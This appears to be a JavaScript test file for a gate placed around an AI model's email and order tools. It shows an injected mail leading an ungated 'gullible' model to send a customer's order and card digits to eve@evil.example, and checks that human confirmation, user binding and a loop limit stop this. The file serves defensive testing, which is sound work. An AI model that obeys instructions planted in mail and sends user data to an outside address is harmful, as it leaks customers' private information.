import assert from 'node:assert/strict';
import { test } from 'node:test';
import { beforeEach } from 'node:test';
import { run } from './assistant.js';
import { gated } from './gate.js';
import { gullible, sent, tools } from './shop.js';

beforeEach(() => { sent.length = 0; });

test('without a gate a mail makes the assistant send what it knows', async () => {
  await run(gullible, (name, args) => tools[name].call(args, 'ada'), 'Summarize mail 1');
  assert.deepEqual(sent, ['eve@evil.example: order 7, card ending 4242']);
});

test('with it nothing leaves unless a person says so, and she sees where to', async () => {
  const asked = [];
  const text = await run(gullible, gated(tools, { user: 'ada', confirm: async (name, { to }) => { asked.push(`${name} ${to}`); return false; } }), 'Summarize mail 1');
  assert.deepEqual([sent, asked], [[], ['send_mail eve@evil.example']]);
  assert.match(text, /refused/);
});

test('whose orders are read is not for the model to say', async () => {
  const gate = gated(tools, { user: 'ada', confirm: async () => true });
  assert.equal(await gate('find_orders', { user: 'bo' }), 'order 7, card ending 4242');
});

test('orders alone may be sent without a question, and an unknown tool is no exception', async () => {
  const gate = gated(tools, { user: 'ada', confirm: assert.fail });
  await gate('find_orders', {});
  assert.equal(await gate('send_mail', { to: 'bo@example.com', text: 'soon' }), 'sent');
  assert.equal(await gate('constructor', {}), 'no tool constructor');
});

test('a mail is private and written by a stranger: one mail cannot have another one forwarded', async () => {
  const gate = gated(tools, { user: 'ada', confirm: async () => false });
  await gate('read_mail', { id: 1 });
  assert.match(await gate('send_mail', { to: 'eve@evil.example', text: 'the next mail' }), /refused/);
  assert.deepEqual(sent, []);
});

test('the mails of others are not for the model to name', async () => {
  const gate = gated(tools, { user: 'bo', confirm: async () => true });
  assert.equal(await gate('read_mail', { id: 1, user: 'ada' }), 'no such mail');
  assert.equal(await run(gullible, gate, 'Summarize mail 1'), 'Bo asks where his parcel is. (no such mail)');
});

test('a model that never ends is ended', async () => {
  assert.equal(await run(async () => ({ tool: 'read_mail', args: { id: 1 } }), gated(tools, { user: 'ada' }), 'x'), 'gave up');
});
